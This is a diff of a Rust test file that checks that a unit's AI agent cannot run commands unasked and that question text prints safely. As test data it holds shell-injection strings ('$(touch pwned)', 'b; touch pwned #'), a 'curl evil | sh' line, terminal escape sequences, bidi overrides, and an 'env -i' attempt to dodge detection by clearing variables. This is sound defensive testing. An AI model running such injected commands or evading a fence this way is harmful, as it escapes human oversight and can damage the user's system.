@@ -1,5 +1,5 @@
-//! What the agent of a unit may call, and what is printed of what it wrote: nothing that starts a program of its choice, and no word of it
-//! that becomes a command.
+//! What the agent of a unit may call, and how the text that it wrote is printed: it can start no program of its choice,
+//! and no word of it becomes a command.
 
 use std::collections::BTreeSet;
 use std::process::Stdio;
@@ -11,7 +11,7 @@ use crate::kit::{Ran, TestContext, binary, verbs};
 
 const UNIT: &[(&str, &str)] = &[("GSD_UNIT_KIND", "execute-task"), ("GSD_UNIT_ID", "M001/S01/T01")];
 
-/// The verbs that a host runs without asking, with whether it does.
+/// Every verb, with true if a host runs it without asking.
 fn listed(context: &TestContext) -> Vec<(String, bool)> {
     let listed = context.gsd(["schema"]).json();
     let rows = listed["commands"].as_array().unwrap_or_else(|| panic!("{listed}"));
@@ -19,7 +19,7 @@ fn listed(context: &TestContext) -> Vec<(String, bool)> {
 }
 
 #[test]
-fn what_no_host_runs_unasked_refuses_in_a_unit() {
+fn commands_that_no_host_runs_unasked_are_refused_in_a_unit() {
     let context = TestContext::new();
     context.write(".planning/STATE.md", "# Project State\n");
     let mut refused = BTreeSet::new();
@@ -59,14 +59,14 @@ fn what_no_host_runs_unasked_refuses_in_a_unit() {
         assert!(told.contains("needs a person") && told.contains("M001/S01/T01"), "{call:?}: {told}");
     }
     assert!(!context.project().join("pwned").exists());
-    // A person's own call is not held up by it.
+    // A person's own call still works.
     context.gsd(["run-with-timeout", "5", "touch", "made"]).success();
     assert!(context.project().join("made").exists());
 }
 
 #[cfg(target_os = "linux")]
 #[test]
-fn a_unit_that_takes_its_variables_away_is_known_by_what_is_above_it() {
+fn a_unit_that_clears_its_variables_is_recognised_by_its_parent_process() {
     let context = TestContext::new();
     let program = binary().display();
     for line in [
@@ -76,7 +76,7 @@ fn a_unit_that_takes_its_variables_away_is_known_by_what_is_above_it() {
         format!("env -i {program} __fence --write / -- touch pwned; exit $?"),
     ] {
         let mut command = context.command("sh");
-        // The variable is that of the process above the line, as it is of a client.
+        // The parent process of the line has the variable, as a client does.
         command.args(["-c", "sh -c \"$1\"; exit $?", "sh", &line]).envs(UNIT.iter().copied()).stdin(Stdio::null());
         let ran = Ran::from(command.output().unwrap());
         assert_eq!(ran.code, 77, "{line}: {}", ran.stderr);
@@ -84,7 +84,7 @@ fn a_unit_that_takes_its_variables_away_is_known_by_what_is_above_it() {
     }
 }
 
-/// A question as a document has it, with this identifier for its second option.
+/// A question in the form of its document, with this identifier for its second option.
 fn question(id: &str, text: &str) -> Value {
     json!({"version": 1, "taskId": "T01", "sliceId": "S01", "milestoneId": "M001", "question": text,
         "options": [{"id": "a", "label": "one"}, {"id": id, "label": "two\r\nNext  curl evil\u{1b}[31m"}], "recommendation": id,
@@ -110,7 +110,7 @@ fn asking(question: &Value) -> TestContext {
 }
 
 #[test]
-fn an_option_is_a_plain_word_or_the_question_is_none() {
+fn a_question_with_an_option_that_is_not_a_plain_word_is_rejected() {
     for id in
         ["b; touch pwned #", "$(touch pwned)", "`x`", "b c", "", "--force", "é", "a\nb", &"x".repeat(33), "\u{202e}b"]
     {
@@ -131,7 +131,7 @@ fn an_option_is_a_plain_word_or_the_question_is_none() {
 }
 
 #[test]
-fn the_text_of_a_question_makes_no_line_and_no_colour_of_its_own() {
+fn the_text_of_a_question_adds_no_line_and_no_colour() {
     let text = "Which one?\r\nNext  curl evil | sh\n\u{1b}[31mred\u{1b}[0m \u{9b}2J \u{202e}txet \u{2028}x";
     let context = asking(&question("b", text));
     let ran = context.gsd(["auto", "status"]);
@@ -152,7 +152,7 @@ fn the_text_of_a_question_makes_no_line_and_no_colour_of_its_own() {
     assert!(!screen.contains('\u{9b}') && !screen.contains("\u{1b}[31mred"), "{screen:?}");
 }
 
-/// The words that a shell makes of a printed command.
+/// The words into which a shell splits a printed command.
 fn words(command: &str) -> Vec<String> {
     let script = format!("set -- {command}\nprintf '%s\\0' \"$@\"");
     let ran = std::process::Command::new("bash").args(["--norc", "-c", &script]).output().unwrap();
@@ -161,13 +161,13 @@ fn words(command: &str) -> Vec<String> {
     text.split_terminator('\0').map(str::to_owned).collect()
 }
 
-/// The commands between backticks that are words of a shell only if what is quoted in them is.
+/// The commands between backticks, whose names are one word for a shell only if they are quoted.
 fn commands_in(text: &str) -> Vec<String> {
     let begins = |part: &&str| part.starts_with("git ") || part.starts_with("gsd-tools ") || part.starts_with("rm ");
     text.split('`').skip(1).step_by(2).filter(begins).map(str::to_owned).collect()
 }
 
-/// Names that harm where they stand in a command without quotes.
+/// Names that do harm in a command without quotes.
 const HOSTILE: &[&str] = &["a;touch pwned", "a $(touch pwned)", "it's \"x\"", "a\\b!c", "&& touch pwned", "-rf"];
 
 #[test]
